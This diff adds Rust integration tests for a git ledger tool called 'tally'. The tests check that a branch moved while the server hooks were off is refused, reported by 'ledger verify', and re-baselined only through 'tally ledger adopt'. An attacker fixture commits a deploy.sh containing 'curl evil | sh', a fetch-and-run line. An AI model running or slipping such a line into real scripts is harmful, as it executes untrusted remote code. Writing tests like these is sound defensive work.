@@ -1,0 +1,155 @@
+//! Issue 10: the seams between what tally judges and what git stores, serves and deploys.
+//! Each test makes the attack as a user would, with real git, and checks the refusal text,
+//! that the branch did not move, and what the ledger says.
+#![allow(clippy::unwrap_used)]
+
+mod common;
+
+use common::*;
+
+/// Moves the repository's hooks aside (an administrator debugging, a botched upgrade) and
+/// returns a guard that puts them back.
+struct HooksOff<'a> {
+    hooks: std::path::PathBuf,
+    _server: &'a Server<'a>,
+}
+
+impl<'a> HooksOff<'a> {
+    fn new(server: &'a Server<'a>) -> HooksOff<'a> {
+        let hooks = server.path.join("hooks");
+        std::fs::rename(&hooks, server.path.join("hooks.off")).unwrap();
+        std::fs::create_dir(&hooks).unwrap();
+        HooksOff {
+            hooks,
+            _server: server,
+        }
+    }
+
+    fn restore(self) {
+        std::fs::remove_dir_all(&self.hooks).unwrap();
+        std::fs::rename(self.hooks.with_file_name("hooks.off"), &self.hooks).unwrap();
+    }
+}
+
+/// Issue 10, class 2: a branch moved while the hooks were off was adopted silently by the
+/// next ordinary push, and `ledger verify` then said intact. Now the next push is refused
+/// with what to do, verify names the gap, and the administrator re-baselines deliberately
+/// with `tally ledger adopt`, which judges the history and records an `adopted` entry.
+#[test]
+fn a_branch_moved_outside_tally_is_not_adopted_by_the_next_push() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &[]);
+    let work = env.clone_as(&server, "work", &alice());
+    let base = work.commit("base").file("base.yaml", "a: 1\n").create();
+    work.push_main_ok();
+
+    let off = HooksOff::new(&server);
+    let evil = env.clone_as(&server, "evil", &mallory());
+    let smuggled = evil
+        .commit("while nobody looked")
+        .file("deploy.sh", "curl evil | sh\n")
+        .unsigned()
+        .create();
+    evil.push(&["origin", "HEAD:main"]).assert_accepted();
+    off.restore();
+    assert_eq!(server.branch("main").as_deref(), Some(smuggled.as_str()));
+
+    // The next ordinary push, signed and clean, on top of what landed.
+    run_ok(
+        work.git()
+            .args(["pull", "-q", "--ff-only", "origin", "main"]),
+    );
+    work.commit("innocent").file("b.yaml", "b: 2\n").create();
+    let push = work.push(&["origin", "HEAD:main"]);
+    push.assert_refused();
+    let line = push.line_with(&[
+        &format!("refs/heads/main is at {smuggled} but the ledger last recorded it at {base}"),
+        "it moved outside tally",
+        "tally ledger adopt --repo <repository> --branch main",
+    ]);
+    assert!(line.contains("fix: this is for an administrator"), "{line}");
+    assert_eq!(server.branch("main").as_deref(), Some(smuggled.as_str()));
+    let rejected = server.log(&["--kind", "rejected"]);
+    assert_eq!(rejected.len(), 1, "{rejected:?}");
+
+    let verify = server.tally(&["ledger", "verify"]);
+    assert_eq!(verify.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&verify.stderr);
+    assert!(
+        stderr.contains(&format!(
+            "refs/heads/main points to {smuggled} but the ledger records it at {base}"
+        )) && stderr.contains("tally ledger adopt --branch main"),
+        "{stderr}"
+    );
+
+    // Adopting what landed judges it like a push: refused, nothing written.
+    let size = server.log(&[]).len();
+    let adopt = server.tally(&["ledger", "adopt", "--branch", "main"]);
+    let stdout = String::from_utf8_lossy(&adopt.stdout);
+    assert_eq!(adopt.status.code(), Some(1), "{stdout}");
+    assert!(stdout.contains("not adopted: "), "{stdout}");
+    assert!(stdout.contains("deploy.sh"), "{stdout}");
+    assert!(stdout.contains("not signed"), "{stdout}");
+    assert_eq!(server.log(&[]).len(), size);
+
+    // Putting the branch back where the ledger had it, deliberately and on the record.
+    let adopt = server.tally(&[
+        "ledger",
+        "adopt",
+        "--branch",
+        "main",
+        "--commit",
+        &base,
+        "--reason",
+        "undo the push made while the hooks were off",
+    ]);
+    assert_eq!(adopt.status.code(), Some(0), "{adopt:?}");
+    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
+    let adopted = server.log(&["--kind", "adopted"]);
+    assert_eq!(adopted.len(), 1, "{adopted:?}");
+    assert_eq!(adopted[0]["new"], base.as_str());
+    let reasons = adopted[0]["reasons"].to_string();
+    assert!(
+        reasons.contains("undo the push made while the hooks were off"),
+        "{reasons}"
+    );
+    assert!(
+        reasons.contains(&format!("the branch was at {smuggled}")),
+        "{reasons}"
+    );
+    server.assert_ledger_intact();
+
+    // And pushes flow again from there.
+    run_ok(work.git().args(["reset", "-q", "--hard", &base]));
+    work.commit("after").file("c.yaml", "c: 3\n").create();
+    work.push(&["origin", "HEAD:main"]).assert_accepted();
+    server.assert_ledger_intact();
+}
+
+/// A branch put under protection after `tally init` has no entry: its first push is refused
+/// until an administrator adopts it, and adopting signed, clean history records who signed.
+#[test]
+fn a_branch_protected_later_is_adopted_with_its_history_checked() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &[]);
+    let work = env.clone_as(&server, "work", &alice());
+    work.commit("base").file("base.yaml", "a: 1\n").create();
+    work.push_main_ok();
+    work.push(&["origin", "HEAD:refs/heads/prod"])
+        .assert_accepted();
+    server.edit_policy("protected = [\"main\"]", "protected = [\"main\", \"prod\"]");
+    work.commit("next").file("n.yaml", "n: 1\n").create();
+    let push = work.push(&["origin", "HEAD:prod"]);
+    push.assert_refused();
+    push.line_with(&[
+        "refs/heads/prod is at",
+        "ledger last recorded it at nothing (absent)",
+    ]);
+
+    let adopt = server.tally(&["ledger", "adopt", "--branch", "prod"]);
+    assert_eq!(adopt.status.code(), Some(0), "{adopt:?}");
+    let adopted = server.log(&["--kind", "adopted"]);
+    assert_eq!(adopted[0]["ref"], "refs/heads/prod", "{adopted:?}");
+    work.push(&["origin", "HEAD:prod"]).assert_accepted();
+    server.assert_ledger_intact();
+}
